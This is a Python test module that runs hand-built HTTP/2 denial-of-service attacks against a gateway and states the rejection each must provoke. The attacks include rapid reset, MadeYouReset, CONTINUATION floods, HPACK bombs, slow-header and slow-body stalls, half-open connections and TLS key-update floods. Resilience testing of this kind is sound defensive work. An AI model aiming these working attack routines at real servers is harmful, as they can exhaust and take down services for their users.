"""Attacks on an HTTP/2 server: what each sends, and what has to come of it. Frames are written by hand."""

import random
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass

from clients import raw_tls

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
ACK, END_STREAM, END_HEADERS = 1, 1, 4
PROTOCOL_ERROR, SETTINGS_TIMEOUT, CANCEL, ENHANCE_YOUR_CALM = 1, 4, 8, 11
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INITIAL_WINDOW_SIZE = 4
WAIT_SECONDS = 30


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def field(name: bytes, value: bytes) -> bytes:
    """A literal that is not indexed; of fewer than 127 bytes each."""
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


def block(path: bytes = b"/3/device/00", method: bytes = b"POST") -> bytes:
    fields = [(b":method", method), (b":scheme", b"https"), (b":path", path), (b"host", b"localhost")]
    return b"".join(field(name, value) for name, value in fields)


def integer(value: int, prefix_bits: int) -> bytes:
    """An HPACK integer (RFC 7541 §5.1) that fills its prefix."""
    value -= (1 << prefix_bits) - 1
    output = bytes([(1 << prefix_bits) - 1])
    while value >= 128:
        output += bytes([value & 127 | 128])
        value >>= 7
    return output + bytes([value])


@dataclass
class Target:
    """Where the gateway is. `ca` is None for cleartext. `scale` is 1 in the tests, more in the long run."""

    address: tuple[str, int]
    ca: str | None
    scale: int

    def connect(self) -> socket.socket:
        return socket.create_connection(self.address, timeout=WAIT_SECONDS)


class Peer:
    """One connection that has begun HTTP/2."""

    def __init__(
        self, target: Target, settings: bytes = b"", opening: bytes = PREFACE, acknowledges: bool = True
    ):
        self.socket = target.connect()
        if target.ca:
            context = ssl.create_default_context(cafile=target.ca)
            context.set_alpn_protocols(["h2"])
            self.socket = context.wrap_socket(self.socket, server_hostname=target.address[0])
        self.received = b""
        self.is_over = False
        self.send(opening + (frame(SETTINGS, payload=settings) if opening else b""))
        if opening == PREFACE and acknowledges:
            # Before anything else, since nothing may come within a field block.
            next(kind for kind, _, _, _ in self.frames() if kind == SETTINGS)
            self.send(frame(SETTINGS, ACK))

    def close(self) -> None:
        self.socket.close()

    def send(self, data: bytes) -> bool:
        """False when the server takes nothing more: it has ended the connection, or has not read for long."""
        try:
            self.socket.sendall(data)
        except TimeoutError:
            return False
        except (OSError, ssl.SSLError):
            self.is_over = True
        return not self.is_over

    def frames(self, seconds: float = WAIT_SECONDS) -> Iterator[tuple[int, int, int, bytes]]:
        """Kind, flags, stream and payload of what comes, to the end of the connection; nothing more after a wait."""
        deadline = time.monotonic() + seconds
        while True:
            while len(self.received) >= 9:
                end = 9 + int.from_bytes(self.received[:3], "big")
                if len(self.received) < end:
                    break
                kind, flags, stream = struct.unpack(">BBI", self.received[3:9])
                payload, self.received = self.received[9:end], self.received[end:]
                yield kind, flags, stream, payload
            left = deadline - time.monotonic()
            if left <= 0:
                return
            self.socket.settimeout(left)
            try:
                more = self.socket.recv(65536)
            except TimeoutError:
                return
            except (OSError, ssl.SSLError):
                more = b""
            if not more:
                self.is_over = True
                return
            self.received += more

    def outcome(self, seconds: float = WAIT_SECONDS, *, passes_resets: bool = False) -> str:
        """How the server ended what was wrong: `GOAWAY code`, `RST_STREAM code`, `closed`, or `nothing`."""
        for kind, _, _, payload in self.frames(seconds):
            if kind == GOAWAY:
                return f"GOAWAY {int.from_bytes(payload[4:8], 'big')}"
            if kind == RST_STREAM and not passes_resets:
                return f"RST_STREAM {int.from_bytes(payload[:4], 'big')}"
        return "closed" if self.is_over else "nothing"


@dataclass
class Attack:
    """`run` gives what the server did about each connection; every one of them has to be in `expected`."""

    name: str
    run: Callable[[Target], Iterator[str]]
    expected: tuple[str, ...]
    transports: tuple[str, ...] = ("tls", "h2c")


@contextmanager
def peer(target: Target, settings: bytes = b"", opening: bytes = PREFACE) -> Iterator[Peer]:
    made = Peer(target, settings, opening)
    try:
        yield made
    finally:
        made.close()


def flood(target: Target, pieces: Callable[[int], bytes], before: bytes = b"", count: int = 20_000) -> Iterator[str]:
    """Sends piece after piece, without reading, until the server has had enough or `count` have left."""
    for _ in range(3 * target.scale):
        with peer(target) as attacker:
            attacker.send(before)
            for start in range(0, count, 500):
                if not attacker.send(b"".join(pieces(index) for index in range(start, start + 500))):
                    break
            yield attacker.outcome()


def rapid_reset(target: Target) -> Iterator[str]:
    def pieces(index: int) -> bytes:
        stream = index * 2 + 1
        request = frame(HEADERS, END_STREAM | END_HEADERS, stream, block())
        return request + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))

    return flood(target, pieces)


def made_resets(target: Target) -> Iterator[str]:
    """MadeYouReset (CVE-2025-8671): request after request, each with a fault for which the server resets its stream."""

    def overflow(stream: int) -> bytes:
        request = frame(HEADERS, END_STREAM | END_HEADERS, stream, block())
        return request + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFFFFFF))

    def wrong_length(stream: int) -> bytes:
        return frame(HEADERS, END_STREAM | END_HEADERS, stream, block() + field(b"content-length", b"5"))

    def malformed(stream: int) -> bytes:
        return frame(HEADERS, END_STREAM | END_HEADERS, stream, block() + field(b"X", b"1"))

    def subscription(stream: int) -> bytes:
        request = block(b"/v1/topics/com.example.attack/wakes", b"GET")
        overflow = frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFFFFFF))
        return frame(HEADERS, END_STREAM | END_HEADERS, stream, request) + overflow

    for request in (overflow, wrong_length, malformed, subscription):
        with peer(target) as attacker:
            for start in range(0, 20_000, 500):
                if not attacker.send(b"".join(request(index * 2 + 1) for index in range(start, start + 500))):
                    break
            yield attacker.outcome(passes_resets=True)


def continuations(target: Target) -> Iterator[str]:
    return flood(target, lambda _: frame(CONTINUATION, 0, 1, field(b"a", b"b")), frame(HEADERS, 0, 1, block()))


def endless_trailers(target: Target) -> Iterator[str]:
    before = frame(HEADERS, END_HEADERS, 1, block()) + frame(HEADERS, END_STREAM, 1, field(b"a", b"b"))
    return flood(target, lambda _: frame(CONTINUATION, 0, 1, field(b"a", b"b")), before)


def trailers_again(target: Target) -> Iterator[str]:
    """Trailers after trailers: the first are malformed and reset the stream, the others may have been under way."""
    before = frame(HEADERS, END_HEADERS, 1, block())
    for _ in range(3 * target.scale):
        with peer(target) as attacker:
            attacker.send(before)
            trailers = frame(HEADERS, END_HEADERS, 1, field(b"a", b"b"))
            for _ in range(40):
                if not attacker.send(trailers * 500):
                    break
            yield attacker.outcome()
            yield attacker.outcome()


def hpack_bomb(target: Target) -> Iterator[str]:
    """One entry as large as the table allows, then thousands of references to it of one byte each, as fields."""
    return bombs(target, lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, block() + BOMB))


def trailer_bomb(target: Target) -> Iterator[str]:
    def request(stream: int) -> bytes:
        return frame(HEADERS, END_HEADERS, stream, block()) + frame(HEADERS, END_STREAM | END_HEADERS, stream, BOMB)

    return bombs(target, request)


def bombs(target: Target, request: Callable[[int], bytes]) -> Iterator[str]:
    for _ in range(3 * target.scale):
        with peer(target) as attacker:
            for stream in range(1, 101, 2):
                attacker.send(request(stream))
            yield attacker.outcome()


def zero_window(target: Target) -> Iterator[str]:
    """Asks for hundreds of answers with a body, and leaves no room for any."""
    settings = struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)
    for _ in range(3 * target.scale):
        with peer(target, settings) as attacker:
            for index in range(500):
                attacker.send(frame(HEADERS, END_STREAM | END_HEADERS, index * 2 + 1, block(b"/v1/none", b"GET")))
            yield attacker.outcome()


def unread(target: Target) -> Iterator[str]:
    """Asks for answers and reads none: the socket takes nothing more, and so does the gateway."""
    for _ in range(3 * target.scale):
        with peer(target) as attacker:
            attacker.socket.settimeout(WAIT_SECONDS)
            is_taken, stream = True, 1
            # Until its end: what is sent to a session that is over is thrown away as fast as it comes.
            deadline = time.monotonic() + WAIT_SECONDS
            while is_taken and time.monotonic() < deadline:
                requests = (
                    frame(HEADERS, END_STREAM | END_HEADERS, stream + 2 * index, block(b"/v1/none", b"GET"))
                    for index in range(500)
                )
                is_taken = attacker.send(b"".join(requests) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 65535)))
                stream += 1000
            yield "closed" if attacker.is_over else "nothing"


def slowly(target: Target, first: bytes, drop: bytes) -> Iterator[str]:
    """Sends `first` on many connections, then `drop` on each again and again, so that none is ever silent."""
    attackers = [Peer(target) for _ in range(20 * target.scale)]
    try:
        for attacker in attackers:
            attacker.send(first)
        for attacker in attackers:
            deadline = time.monotonic() + WAIT_SECONDS
            found = "nothing"
            while found == "nothing" and time.monotonic() < deadline:
                for other in attackers:
                    other.send(drop)
                found = attacker.outcome(0.1)
            yield found
    finally:
        for attacker in attackers:
            attacker.close()


def slow_headers(target: Target) -> Iterator[str]:
    return slowly(target, frame(HEADERS, END_STREAM, 1, block()), frame(CONTINUATION, 0, 1, field(b"a", b"b")))


def slow_bodies(target: Target) -> Iterator[str]:
    return slowly(target, frame(HEADERS, END_HEADERS, 1, block()), frame(DATA, 0, 1, b"{"))


def kept_blocks(target: Target) -> Iterator[str]:
    """Field blocks that stop one byte before the end of a field as long as is taken, and go no further."""
    long = block() + b"\x00\x01x" + integer(31_900, 7)
    beginning = frame(HEADERS, 0, 1, long) + frame(CONTINUATION, 0, 1, b"v" * 16_000)
    return kept(target, beginning + frame(CONTINUATION, 0, 1, b"v" * 15_899))


def kept_frames(target: Target) -> Iterator[str]:
    """GOAWAY frames as long as frames may be, of which the last byte never comes."""
    return kept(target, frame(GOAWAY, payload=bytes(16_384))[:-1])


def kept(target: Target, beginning: bytes) -> Iterator[str]:
    attackers = [Peer(target) for _ in range(200 * target.scale)]
    try:
        for attacker in attackers:
            attacker.send(beginning)
        for attacker in attackers:
            yield attacker.outcome()
    finally:
        for attacker in attackers:
            attacker.close()


def unacknowledged_settings(target: Target) -> Iterator[str]:
    for _ in range(3 * target.scale):
        attacker = Peer(target, acknowledges=False)
        yield attacker.outcome()
        attacker.close()


def key_updates(target: Target) -> Iterator[str]:
    """Asks for new keys of TLS 1.3, each of which is answered with another, or need not be."""
    for kind in (raw_tls.KEY_UPDATE_REQUESTED, raw_tls.KEY_UPDATE_NOT_REQUESTED):
        for _ in range(2 * target.scale):
            yield raw_tls.key_updates(target.connect, PREFACE + frame(SETTINGS), kind, 50_000)


def client_hello() -> bytes:
    """What a client begins its handshake with."""
    outgoing = ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def half_open(target: Target) -> Iterator[str]:
    """Connections that say nothing, or break off within the handshake or the preface."""
    hello = client_hello()
    beginnings = (hello, hello, hello, hello[:11], hello[:3], b"") if target.ca else (b"", b"PRI * HT")
    sockets = []
    try:
        for index in range(500 * target.scale):
            sockets.append(target.connect())
            # The gateway may end the oldest while more come.
            with suppress(OSError):
                sockets[-1].sendall(beginnings[index % len(beginnings)])
        for each in sockets:
            each.settimeout(WAIT_SECONDS)
            try:
                while each.recv(65536):
                    pass
                yield "closed"
            except TimeoutError:
                yield "nothing"
            except OSError:
                yield "closed"
    finally:
        for each in sockets:
            each.close()


def garbage(target: Target) -> Iterator[str]:
    """Noise in place of the handshake, of the preface, and of frames."""
    source = random.Random(1)
    for number in range(20 * target.scale):
        noise = source.randbytes(4096)
        if number % 2:
            with peer(target, opening=PREFACE if number % 4 == 1 else b"") as attacker:
                attacker.send(frame(SETTINGS) + noise * 8 if number % 4 == 1 else b"PRI * HTTP/1.0\r\n\r\n" + noise)
                found = attacker.outcome()
                yield "closed" if found.startswith("GOAWAY") else found
            continue
        with target.connect() as attacker:
            try:
                attacker.sendall(noise)
                while attacker.recv(65536):
                    pass
                yield "closed"
            except TimeoutError:
                yield "nothing"
            except OSError:
                yield "closed"


BOMB = bytes([0x40, 1]) + b"x" + integer(4000, 7) + b"v" * 4000 + bytes([0xBE]) * 10_000
CALM = (f"GOAWAY {ENHANCE_YOUR_CALM}", "closed")
OPEN = frame(HEADERS, END_HEADERS, 1, block())
ATTACKS = [
    Attack("rapid-reset", rapid_reset, CALM),
    Attack("made-you-reset", made_resets, CALM),
    Attack("continuation-flood", continuations, CALM),
    Attack("endless-trailers", endless_trailers, CALM),
    Attack("trailers-again", trailers_again, (f"RST_STREAM {PROTOCOL_ERROR}", *CALM)),
    Attack("settings-flood", lambda target: flood(target, lambda _: frame(SETTINGS)), CALM),
    Attack("ping-flood", lambda target: flood(target, lambda _: frame(PING, payload=bytes(8))), CALM),
    Attack("priority-flood", lambda target: flood(target, lambda _: frame(PRIORITY, 0, 1, bytes(5))), CALM),
    Attack("empty-data-flood", lambda target: flood(target, lambda _: frame(DATA, 0, 1), OPEN), CALM),
    Attack(
        "window-update-flood",
        lambda target: flood(target, lambda _: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
        CALM,
    ),
    Attack("hpack-bomb", hpack_bomb, (f"RST_STREAM {ENHANCE_YOUR_CALM}",)),
    Attack("trailer-bomb", trailer_bomb, (f"RST_STREAM {ENHANCE_YOUR_CALM}",)),
    Attack("zero-window", zero_window, (f"RST_STREAM {CANCEL}",)),
    Attack("unread-answers", unread, ("closed",)),
    Attack("slow-headers", slow_headers, (f"GOAWAY {ENHANCE_YOUR_CALM}",)),
    Attack("slow-bodies", slow_bodies, (f"RST_STREAM {CANCEL}",)),
    Attack("kept-blocks", kept_blocks, (f"GOAWAY {ENHANCE_YOUR_CALM}",)),
    Attack("kept-frames", kept_frames, (f"GOAWAY {ENHANCE_YOUR_CALM}",)),
    Attack("unacknowledged-settings", unacknowledged_settings, (f"GOAWAY {SETTINGS_TIMEOUT}",)),
    Attack("key-updates", key_updates, CALM, ("tls",)),
    Attack("half-open", half_open, ("closed",)),
    Attack("garbage", garbage, ("closed",)),
]


def peak_bytes(pid: int) -> int:
    """The most that a process was ever resident with, since `forget_peak`."""
    with open(f"/proc/{pid}/status", encoding="ascii", errors="replace") as file:
        return next(int(line.split()[1]) * 1024 for line in file if line.startswith("VmHWM:"))


def forget_peak(pid: int) -> None:
    with open(f"/proc/{pid}/clear_refs", "w", encoding="ascii") as file:
        # proc_pid_clear_refs(5): the peak is what is resident now.
        file.write("5")
